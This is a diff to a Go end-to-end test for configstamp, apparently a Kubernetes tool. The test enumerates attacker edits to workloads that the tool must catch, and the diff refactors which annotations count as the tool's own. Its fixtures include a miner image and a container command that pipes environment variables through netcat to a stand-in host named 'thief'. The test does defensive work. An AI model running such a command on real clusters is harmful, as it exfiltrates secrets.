@@ -3,6 +3,7 @@ package e2e
 import (
 	"encoding/json"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -12,6 +13,7 @@ import (
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	"k8s.io/client-go/kubernetes"
 
+	"github.com/configstamp/configstamp/checksum"
 	"github.com/configstamp/configstamp/e2e/harness"
 )
 
@@ -164,6 +166,10 @@ func (k attacked) changes() []change {
 		return []any{one}
 	}
 	owner := map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "name": "c", "uid": "0d8e5d5b-6a30-4f0c-8d5a-7d5a3b1f0c11"}
+	misplaced := slices.Clone(k.own)
+	for _, key := range checksum.OursOnWorkload() {
+		misplaced = append(misplaced, change{key + " where it does not belong", inTemplate(k, "metadata", "annotations", key), "{}"})
+	}
 	return append([]change{
 		{"another image", inTemplate(k, "spec", "containers"), container(map[string]any{"image": "registry.example/miner:1"})},
 		{"a command", inTemplate(k, "spec", "containers"), container(map[string]any{"command": []any{"sh", "-c", "env | nc thief 80"}})},
@@ -181,24 +187,24 @@ func (k attacked) changes() []change {
 		{"somebody's annotation taken away", []string{"metadata", "annotations", "example.com/team"}, nil},
 		{"somebody's annotation on the template", inTemplate(k, "metadata", "annotations", "kubectl.kubernetes.io/restartedAt"), "now"},
 		{"a policy", []string{"metadata", "annotations", "configstamp.dev/pause"}, "false"},
-		{"a baseline where none belongs", inTemplate(k, "metadata", "annotations", "configstamp.dev/baseline"), "{}"},
-		{"declined where it does not belong", inTemplate(k, "metadata", "annotations", "configstamp.dev/declined"), "{}"},
 		{"pins where none belong", []string{"metadata", "annotations", "configstamp.dev/pins"}, "{}"},
-	}, k.own...)
+	}, misplaced...)
 }
 
 // allowed are what configstamp itself may do.
 func (k attacked) allowed() []change {
-	return []change{
+	changes := []change{
 		{"nothing", nil, nil},
 		{"the stamp of a ConfigMap", inTemplate(k, "metadata", "annotations", harness.StampKey("configmap/c")), "v1:absent"},
 		{"the stamp of a Secret", inTemplate(k, "metadata", "annotations", harness.StampKey("secret/c")), "v1:absent"},
-		{"a baseline", []string{"metadata", "annotations", "configstamp.dev/baseline"}, `{"configmap/c":"v1:absent"}`},
 		// A later release's, whose webhook may answer an empty patch of this one.
 		{"pins", inTemplate(k, "metadata", "annotations", "configstamp.dev/pins"), "{}"},
 		{"the mark of a pinned Pod", inTemplate(k, "metadata", "annotations", "configstamp.dev/pinned"), "{}"},
-		{"declined", []string{"metadata", "annotations", "configstamp.dev/declined"}, "{}"},
 	}
+	for _, key := range checksum.OursOnWorkload() {
+		changes = append(changes, change{key, []string{"metadata", "annotations", key}, "{}"})
+	}
+	return changes
 }
 
 // foreign is all of an object that a thief must not have changed.
